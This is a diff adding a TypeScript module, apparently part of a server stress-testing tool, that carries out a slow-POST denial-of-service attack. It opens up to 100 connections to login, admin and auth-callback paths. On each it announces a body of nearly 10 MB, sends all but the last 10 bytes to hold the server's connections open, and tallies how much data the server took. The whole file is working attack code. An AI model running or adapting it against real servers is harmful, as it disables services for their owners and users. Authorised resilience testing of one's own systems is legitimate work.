@@ -1,0 +1,45 @@
+import { once } from "node:events";
+import type { Socket } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import { headOf, noteAnswers } from "./raw";
+import { type Scene, upTo } from "./scene";
+
+const LENGTH = 9_900_010;
+/** Last bytes that are never sent. */
+const WITHHELD = 10;
+const PIECE = Buffer.alloc(64 * 1024, "a");
+const PATHS = ["/login", "/admin", "/api/auth/callback/credentials"] as const;
+
+/** Announces a large body on many connections, and sends all but its last bytes. */
+export async function withholdBodies(scene: Scene): Promise<void> {
+  const { job } = scene;
+  let sent = 0;
+  const connections = upTo(job.small ? 40 : 100).map(async (n) => {
+    const socket = await scene.connect(job.elsewhere[n % job.elsewhere.length] ?? "");
+    const path = PATHS[n % PATHS.length] ?? "/login";
+    if (!socket) return scene.note(null, path);
+    noteAnswers(scene, socket, `POST ${path}`);
+    const headers = {
+      "content-type": "application/x-www-form-urlencoded",
+      "content-length": String(LENGTH),
+      "sec-fetch-site": "same-origin",
+    };
+    socket.write(headOf("POST", path, headers));
+    sent += await sendBody(scene, socket);
+  });
+  await Promise.all(connections);
+  while (!scene.isOver()) await sleep(100);
+  scene.result.facts.push(`${(sent / 1e6).toFixed(0)} MB of bodies were accepted`);
+}
+
+/** Sends the body as fast as the server takes it. Returns the bytes that it took. */
+async function sendBody(scene: Scene, socket: Socket): Promise<number> {
+  let left = LENGTH - WITHHELD;
+  while (left > 0 && !socket.destroyed && !scene.isOver()) {
+    const piece = PIECE.subarray(0, left);
+    left -= piece.length;
+    if (socket.write(piece)) continue;
+    await Promise.race([once(socket, "drain"), once(socket, "close"), sleep(500)]).catch(() => {});
+  }
+  return LENGTH - WITHHELD - left - socket.writableLength;
+}
